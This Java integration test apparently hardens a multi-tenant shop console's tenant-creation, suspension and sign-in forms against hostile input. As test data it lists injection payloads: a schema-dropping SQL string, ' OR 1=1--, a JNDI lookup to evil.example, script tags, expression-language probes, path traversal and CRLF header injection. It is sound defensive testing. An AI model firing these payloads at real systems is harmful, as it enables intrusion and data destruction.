package dev.galleria.journey;

import static org.assertj.core.api.Assertions.assertThat;

import dev.galleria.harness.InApplication;
import dev.galleria.harness.Ready;
import dev.galleria.harness.Shop;
import dev.galleria.harness.ShopOffice;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** Part 4 of the promises in the console: no tenant is made, closed or opened by anything but its forms. */
@RunAsClient
class HostileConsoleJourneyIT extends InApplication {
    private static final String NEW = "/tenants/new";
    private static final String FREE = "hostile-" + Long.toString(System.nanoTime(), 36);

    @BeforeEach
    void ready() {
        Ready.await();
    }

    @Test
    @DisplayName("8, 9, 10: slugs that look like others, mean something else or are SQL")
    void makesNoMarketplaceOfABadSlug() {
        var console = ShopOffice.console();
        int before = tenants(console);
        for (var slug : List.of(
                "\u0430cme",
                "acme\u200b",
                "AC ME",
                "xn--80ak6aa92e",
                "\uff41cme",
                "admin",
                "www",
                "api",
                "public",
                "pg_catalog",
                "pg-temp",
                "information_schema",
                "shared",
                "t-x",
                "atelier",
                "x\"; DROP SCHEMA atelier CASCADE; --",
                "a.b",
                "$user",
                "#{7*7}",
                "a\u0000b",
                "<script>alert(1)</script>",
                "")) {
            var answer = console.press(NEW, wish(Map.of("wish:slug", slug)));
            assertThat(answer.status()).as(slug).isIn(200, 409, 422);
            assertThat(answer.body()).as(slug).doesNotContain("<script>alert(1)");
            var hint = console.ask(
                    NEW,
                    Map.of(
                            "wish", "wish",
                            "wish:slug", slug,
                            "jakarta.faces.source", "wish:slug",
                            "jakarta.faces.behavior.event", "change",
                            "jakarta.faces.partial.event", "change",
                            "jakarta.faces.partial.execute", "wish:slug",
                            "jakarta.faces.partial.render", "wish:slugState"));
            assertThat(hint.status()).as(slug).isEqualTo(200);
            assertThat(hint.body()).as(slug).doesNotContain("<script>alert(1)").doesNotContain("Exception");
        }
        assertThat(tenants(console)).isEqualTo(before);
    }

    @Test
    @DisplayName(
            "36, 50, 56, 114: values that are not in the lists, fields that are not in the form, names that are none")
    void makesNoMarketplaceOfRubbish() {
        var console = ShopOffice.console();
        int before = tenants(console);
        for (var fields : List.of(
                Map.of("wish:currency", "XXX"),
                Map.of("wish:currency", "eur"),
                Map.of("wish:country", "ZZ"),
                Map.of("wish:theme", "../../b/theme"),
                Map.of("wish:plan", "#{7*7}"),
                Map.of("wish:locales", "en-<script>"),
                Map.of("wish:defaultLocale", "../../x"),
                Map.of("wish:name", "a\u0000b"),
                Map.of("wish:name", "\u202egnp"),
                Map.of("wish:name", " "),
                Map.of("wish:tagline", "a\u0000b"),
                Map.of("wish:email", "a@x\r\nBcc: b@y.example"),
                Map.of("wish:email", "\"<script>\"@x"),
                Map.of("wish:email", "nobody"))) {
            var answer = console.press(NEW, wish(fields));
            assertThat(answer.status()).as(fields.toString()).isIn(200, 302, 422);
            assertThat(answer.header("location")).as(fields.toString()).doesNotContain("creating");
        }
        assertThat(tenants(console)).isEqualTo(before);
        assertThat(new Shop(FREE).get("/").status()).isEqualTo(421);
    }

    @Test
    @DisplayName("54, 55, 56, 62: rows out of range, state of other pages, buttons by GET and without a token")
    void closesNoMarketplaceByAccident() {
        var console = ShopOffice.console();
        var list = console.get("/");
        var button = list.page().selectFirst("#list button[type=submit]").attr("name");
        for (var row : List.of("999999", "-1", "2147483648", "x", "#{7*7}", "")) {
            var name =
                    button.replaceFirst(":[0-9]+:", ":" + row.replace("$", "").replace("\\", "") + ":");
            for (var fields : List.of(
                    Map.of("list", "list", name, ""),
                    Map.of("list", "list", "jakarta.faces.source", name),
                    Map.of("list", "list", "list:tenants_first", row, "list:tenants_pagination", "true"),
                    Map.of("suspendForm", "suspendForm", "suspendForm:confirm", "", "chosen", row))) {
                assertThat(console.press("/", fields).status()).as(name).isLessThan(500);
                assertThat(console.ask("/", fields).status()).as(name).isLessThan(500);
            }
        }
        var seller = ShopOffice.of("atelier", "owner@atelier.example");
        for (var state : List.of(
                "",
                "stateless",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                "x".repeat(100_000),
                ShopOffice.state(console.get(NEW)).get("jakarta.faces.ViewState"),
                ShopOffice.state(seller.get("/backoffice/products")).get("jakarta.faces.ViewState"))) {
            var fields = Map.of("jakarta.faces.ViewState", state, "list", "list", button, "");
            assertThat(console.press("/", fields).status()).isLessThan(500);
            assertThat(console.ask("/", fields).status()).isLessThan(500);
        }
        var sure = ShopOffice.state(console.get("/"));
        sure.putAll(Map.of("suspendForm", "suspendForm", "suspendForm:confirm", ""));
        assertThat(console.get("/?" + Shop.encoded(sure)).status()).isEqualTo(200);
        sure.put("_token", "x");
        assertThat(console.post("/", sure).status()).isEqualTo(403);
        for (var slug : List.of("atelier", "gearhub", "greenmarket")) {
            assertThat(new Shop(slug).get("/").status()).as(slug).isEqualTo(200);
        }
    }

    @Test
    @DisplayName("67, 69, 114, 118: signing in with rubbish; 46: what is nobody's")
    void letsNobodyInByRubbish() {
        for (var rubbish : List.of(
                "a\u0000b",
                "' OR 1=1--",
                "${jndi:ldap://evil.example/x}",
                "\u001b[31m\r\nadmin signed in",
                "x".repeat(100_000),
                "#{7*7}",
                "\ud83d\ude00".repeat(60))) {
            var console = new Shop("console");
            var form = console.get("/sign-in").page().selectFirst("form");
            var answer = console.submit(
                    form,
                    Map.of("signIn:email", rubbish, "signIn:password", rubbish),
                    form.selectFirst("input[type=submit]"));
            assertThat(answer.status()).isIn(401, 429);
            assertThat(console.cookies()).doesNotContainKeys("gc", "gs");
        }
        var stranger = new Shop("console");
        for (var path : List.of("/", "/tenants/new", "/audit", "/tenants/creating/x")) {
            assertThat(stranger.getOnce(path).header("location")).as(path).endsWith("/sign-in");
        }
        var console = ShopOffice.console();
        for (var path : List.of(
                "/tenants/creating/x",
                "/tenants/creating/00000000-0000-0000-0000-000000000000",
                "/backoffice/orders",
                "/cart",
                "/console/tenants.xhtml")) {
            assertThat(console.get(path).status()).as(path).isEqualTo(404);
        }
        for (var query : List.of("q=%00", "state=%00&q=%F0%9F", "q=" + "x".repeat(5_000), "state=%23%7B7*7%7D")) {
            assertThat(console.get("/?" + query).status()).as(query).isEqualTo(200);
        }
    }

    private static int tenants(ShopOffice console) {
        return Integer.parseInt(
                console.get("/").page().selectFirst("nav.tabs .count").text());
    }

    /** A form that would do, with something else in it. */
    private static Map<String, String> wish(Map<String, String> changes) {
        var fields = new LinkedHashMap<>(Map.of(
                "wish", "wish",
                "wish:create", "",
                "wish:name", "Hostile",
                "wish:slug", FREE,
                "wish:email", "owner@hostile.example",
                "wish:country", "DE",
                "wish:currency", "EUR",
                "wish:locales", "en",
                "wish:defaultLocale", "en"));
        fields.put("wish:theme", "meadow");
        fields.put("wish:plan", "starter");
        fields.put("id", "00000000-0000-0000-0000-000000000001");
        fields.put("state", "ACTIVE");
        fields.putAll(changes);
        return fields;
    }
}
